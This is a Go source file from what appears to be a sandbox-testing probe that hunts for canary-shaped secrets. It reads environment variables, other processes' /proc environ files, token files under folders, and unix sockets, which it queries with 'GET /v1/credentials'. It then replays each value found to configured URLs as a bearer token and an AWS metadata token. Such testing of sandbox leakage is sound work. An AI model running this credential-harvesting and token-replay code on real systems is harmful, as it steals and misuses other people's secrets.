package probe

import (
	"context"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Bounds of one hunt: it must end well inside the attempt's deadline even
// where the sandbox shows the whole host.
const (
	huntDepth    = 6
	huntFiles    = 1000
	huntFileSize = 64 << 10
	huntSockets  = 8
	huntProcs    = 4096
	huntUses     = 8 // values presented to each Use URL
)

// doHunt searches one place for canary-shaped values (see KindHunt) and
// then presents what it found to the Use URLs.
func doHunt(ctx context.Context, s Step, rep *Report) error {
	h := newHunted()
	var err error
	switch s.Target {
	case "env":
		h.add([]byte(strings.Join(os.Environ(), "\n")), "env")
	case "proc":
		err = huntProc(ctx, h)
	default:
		err = huntPath(ctx, s.Target, h)
	}
	rep.Bytes = len(h.order)
	rep.Excerpt = h.excerpt()
	if len(h.order) > 0 && len(s.Use) > 0 {
		present(ctx, h.order, s.Use)
	}
	return err
}

// huntProc reads the environment of every other process it may read.
func huntProc(ctx context.Context, h *hunted) error {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return err
	}
	self := strconv.Itoa(os.Getpid())
	n := 0
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil || e.Name() == self {
			continue
		}
		if ctx.Err() != nil || n >= huntProcs {
			break
		}
		n++
		if b, err := readLimited(filepath.Join("/proc", e.Name(), "environ"), huntFileSize); err == nil {
			h.add(b, "pid "+e.Name()+" environ")
		}
	}
	return ctx.Err()
}

// huntPath reads a file, connects to a socket, or searches a folder.
func huntPath(ctx context.Context, root string, h *hunted) error {
	st, err := os.Stat(root)
	if err != nil {
		return err
	}
	if !st.IsDir() {
		return huntFile(ctx, root, st, h)
	}
	files, socks := 0, 0
	return filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		if err != nil {
			if p == root {
				return err
			}
			return nil
		}
		if d.IsDir() {
			if p != root && strings.Count(strings.TrimPrefix(p, root), "/") >= huntDepth {
				return fs.SkipDir
			}
			return nil
		}
		// Kubernetes projects tokens through symlinks (token -> ..data/token).
		st, err := os.Stat(p)
		if err != nil || st.IsDir() {
			return nil
		}
		switch {
		case st.Mode()&fs.ModeSocket != 0 && socks < huntSockets:
			socks++
		case st.Mode().IsRegular() && files < huntFiles:
			files++
		default:
			return nil
		}
		_ = huntFile(ctx, p, st, h)
		return nil
	})
}

func huntFile(ctx context.Context, p string, st fs.FileInfo, h *hunted) error {
	if st.Mode()&fs.ModeSocket != 0 {
		b, err := askSocket(ctx, p)
		h.add(b, p+" (socket)")
		return err
	}
	if !st.Mode().IsRegular() || st.Size() > huntFileSize {
		return nil
	}
	b, err := readLimited(p, huntFileSize)
	h.add(b, p)
	return err
}

// askSocket connects to a unix socket, asks as an HTTP client would (the
// engine and most helpers speak HTTP) and reads the answer.
func askSocket(ctx context.Context, p string) ([]byte, error) {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	c, err := (&net.Dialer{}).DialContext(ctx, "unix", p)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	dl, _ := ctx.Deadline()
	_ = c.SetDeadline(dl)
	if _, err := c.Write([]byte("GET /v1/credentials HTTP/1.0\r\nHost: localhost\r\n\r\n")); err != nil {
		return nil, err
	}
	return readSome(c, readCap)
}

func readLimited(p string, n int) ([]byte, error) {
	f, err := os.Open(p)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return readSome(f, n)
}

// present uses each value found against each URL, the way a stolen key is
// used: as a bearer token and as an AWS metadata token. Outcomes are not
// reported; the endpoints record what arrived.
func present(ctx context.Context, values, urls []string) {
	client := &http.Client{Transport: &http.Transport{Proxy: nil, DisableKeepAlives: true},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	if len(values) > huntUses {
		values = values[:huntUses]
	}
	var wg sync.WaitGroup
	for _, v := range values {
		for _, u := range urls {
			wg.Go(func() {
				req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
				if err != nil {
					return
				}
				tagRequest(ctx, req)
				req.Header.Set("Authorization", "Bearer "+v)
				req.Header.Set("X-aws-ec2-metadata-token", v)
				if resp, err := client.Do(req); err == nil {
					resp.Body.Close()
				}
			})
		}
	}
	wg.Wait()
}
